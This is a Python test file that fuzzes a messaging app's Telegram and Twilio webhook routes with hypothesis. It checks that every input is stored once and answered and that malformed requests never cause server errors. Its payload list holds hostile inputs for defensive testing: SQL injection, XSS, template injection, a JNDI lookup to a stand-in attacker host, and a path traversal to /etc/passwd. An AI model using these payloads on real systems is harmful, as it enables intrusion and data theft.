"""Fuzzed messages through the real webhook routes of create_app (hypothesis).

Texts of every kind (any Unicode, control characters, SQL and HTML, keywords, numbers that
look like data) posted as Telegram updates and signed Twilio messages: each is answered 200,
stored exactly once as sent, and answered with an outbox row. Fuzzed update and form
structures: never a 5xx, and a request answered 4xx leaves nothing behind.

About 3,500 cases in all (1,000 + 1,000 + 400 + 600 + 2 x 250); each test stays well under 30 s on SQLite.
"""

from __future__ import annotations

import itertools
import json
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from starlette.testclient import TestClient

from dash.context import AppContext
from dash.db import Database
from dash.models import Message, OutboxItem
from dash.parsing import parse_command
from dash.server import create_app
from tests.fakes.signing import twilio_headers
from tests.fakes.telegram_api import FakeTelegram
from tests.fakes.twilio_api import FakeTwilio
from tests.support.webhooks import TWILIO_PATH, Poster, telegram_update, twilio_params
from tests.test_delivery_kit import configure, telegram_env, twilio_env

FUZZ = settings(
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,  # the same cases every run: a failure is reproducible
)

PAYLOADS = [
    "'); DROP TABLE messages; --",
    "1 OR 1=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }} {% for x in range(9) %}",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("https://evil.example")',
    "../../etc/passwd",
    "\u202egnp.exe",
    "JOIN",
    "JOIN ZZZZZZ",
    "YES",
    "NO",
    "PLAN",
    "CHART",
    "HELP",
    "?",
    "5/10",
    "12 of 9",
    "-3/4",
    "99999999999999999999/1",
    "1e308 of 1e309",
    "0/0",
    "🙂" * 50,
    "\x00",
    "\r\n\t",
]

texts = st.one_of(
    st.text(max_size=200),
    st.sampled_from(PAYLOADS),
    st.tuples(st.sampled_from(PAYLOADS), st.text(max_size=40)).map(" ".join),
    st.text(alphabet=st.sampled_from("0123456789/ ofOFoutOUT.-,"), max_size=20),
)


@pytest.fixture
def ctx(
    monkeypatch: pytest.MonkeyPatch,
    db: Database,
    fake_telegram: FakeTelegram,
    fake_twilio: FakeTwilio,
) -> AppContext:
    return configure(
        monkeypatch,
        db,
        **telegram_env(fake_telegram),
        **twilio_env(fake_twilio),
        public_url="https://dash.example.org",
    )


@pytest.fixture
def poster(ctx: AppContext) -> Any:
    with TestClient(
        create_app(ctx, background=False),
        raise_server_exceptions=False,
        base_url="https://dash.example.org",
    ) as client:
        yield Poster(ctx, client)


def counts(db: Database) -> tuple[int, int]:
    with db.transaction() as s:
        return (
            s.execute(select(func.count(Message.id))).scalar_one(),
            s.execute(select(func.count(OutboxItem.id))).scalar_one(),
        )


def stored_once_and_answered(db: Database, channel: str, provider_id: str, address: str) -> None:
    with db.transaction() as s:
        rows = (
            s.execute(
                select(Message).where(
                    Message.channel == channel, Message.provider_id == provider_id
                )
            )
            .scalars()
            .all()
        )
        assert len(rows) == 1, f"stored {len(rows)} times"
        inbound = rows[0]
        assert inbound.status == "processed"
        answers = s.execute(
            select(func.count(OutboxItem.id)).where(
                OutboxItem.address == address, OutboxItem.message_id > inbound.id
            )
        ).scalar_one()
        assert answers >= 1, f"{inbound.text!r} was not answered"


def is_stop(text: str) -> bool:
    """STOP is the one message deliberately not answered on SMS (Twilio confirms it)."""
    command = parse_command(text.replace("\x00", "\ufffd").strip())
    return command is not None and command.name == "stop"


def test_fuzzed_telegram_texts_are_stored_once_and_answered(poster: Poster, db: Database) -> None:
    ids = itertools.count(1)

    @settings(FUZZ, max_examples=1000)
    @given(text=texts)
    def check(text: str) -> None:
        n = next(ids)
        user = 800_000_000 + n
        answer = poster.telegram(telegram_update(n, user, text))
        assert answer.status_code == 200, answer.text
        stored_once_and_answered(db, "telegram", f"u{n}", str(user))

    check()


def test_fuzzed_sms_and_whatsapp_texts_are_stored_once_and_answered(
    poster: Poster, db: Database
) -> None:
    ids = itertools.count(1)

    @settings(FUZZ, max_examples=1000)
    @given(text=texts, whatsapp=st.booleans())
    def check(text: str, whatsapp: bool) -> None:
        assume(not is_stop(text))
        n = next(ids)
        number = f"+1312{n:07d}"
        params = twilio_params(f"whatsapp:{number}" if whatsapp else number, text)
        answer = poster.twilio(params)
        assert answer.status_code == 200, answer.text
        channel = "whatsapp" if whatsapp else "sms"
        stored_once_and_answered(db, channel, params["MessageSid"], number)

    check()


def test_one_person_sending_fuzz_in_a_row_gets_every_message_answered(
    poster: Poster, db: Database
) -> None:
    """The same sender throughout: conversation state (pending questions, hand-over to a
    coach after repeated bad answers, the identical-reply cap) must never swallow a reply."""
    ids = itertools.count(1)
    number = "+13125550199"

    @settings(FUZZ, max_examples=400)
    @given(text=texts)
    def check(text: str) -> None:
        assume(not is_stop(text))
        params = twilio_params(number, text, sid=f"SM{next(ids):032d}")
        answer = poster.twilio(params)
        assert answer.status_code == 200, answer.text
        stored_once_and_answered(db, "sms", params["MessageSid"], number)

    check()


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)

FIELDS = [
    ("message",),
    ("message", "text"),
    ("message", "from"),
    ("message", "from", "id"),
    ("message", "from", "is_bot"),
    ("message", "chat"),
    ("message", "chat", "id"),
    ("message", "chat", "type"),
    ("message", "date"),
    ("message", "message_id"),
    ("message", "entities"),
    ("message", "photo"),
    ("message", "caption"),
    ("edited_message",),
    ("callback_query",),
    ("my_chat_member",),
    ("channel_post",),
]


def _set(update: dict[str, Any], path: tuple[str, ...], value: Any) -> dict[str, Any]:
    target = update
    for key in path[:-1]:
        target = target.setdefault(key, {})
        if not isinstance(target, dict):
            return update
    target[path[-1]] = value
    return update


def test_fuzzed_telegram_update_structures_never_cause_a_5xx(poster: Poster, db: Database) -> None:
    ids = itertools.count(1)

    @settings(FUZZ, max_examples=600)
    @given(
        changes=st.lists(st.tuples(st.sampled_from(FIELDS), json_values), min_size=1, max_size=3)
    )
    def check(changes: list[tuple[tuple[str, ...], Any]]) -> None:
        n = next(ids)
        update = telegram_update(n, 900_000_000 + n, "hello")
        for path, value in changes:
            update = _set(update, path, value)
        before = counts(db)
        answer = poster.telegram(json.dumps(update).encode())
        assert answer.status_code in (200, 400), (answer.status_code, answer.text, update)
        if answer.status_code == 400:
            assert counts(db) == before, "a refused update left something behind"

    check()


field_names = st.sampled_from(
    [
        "MessageSid",
        "SmsMessageSid",
        "From",
        "To",
        "Body",
        "NumMedia",
        "MediaUrl0",
        "MediaContentType0",
        "ProfileName",
        "AccountSid",
        "MessageStatus",
        "ErrorCode",
    ]
) | st.from_regex(r"[A-Za-z][A-Za-z0-9]{0,15}", fullmatch=True)
form_values = st.text(
    alphabet=st.characters(blacklist_categories=["Cs"]), max_size=60
) | st.sampled_from(["+13125550101", "whatsapp:+13125550101", "whatsapp:", "1", "-1", "999999"])


@pytest.mark.parametrize("path", [TWILIO_PATH, "/webhooks/twilio/status"])
def test_fuzzed_signed_twilio_forms_never_cause_a_5xx(
    ctx: AppContext, poster: Poster, db: Database, path: str
) -> None:
    ids = itertools.count(1)
    token = str(ctx.settings.twilio_auth_token)

    @settings(FUZZ, max_examples=250)
    @given(fields=st.dictionaries(field_names, form_values, max_size=8))
    def check(fields: dict[str, str]) -> None:
        fields = {"MessageSid": f"SM{next(ids):032d}", **fields}
        before = counts(db)
        answer = poster.client.post(
            path, data=fields, headers=twilio_headers(token, ctx.settings.url(path), fields)
        )
        assert answer.status_code in (200, 400), (answer.status_code, answer.text, fields)
        if answer.status_code == 400:
            assert counts(db) == before, "a refused message left something behind"

    check()
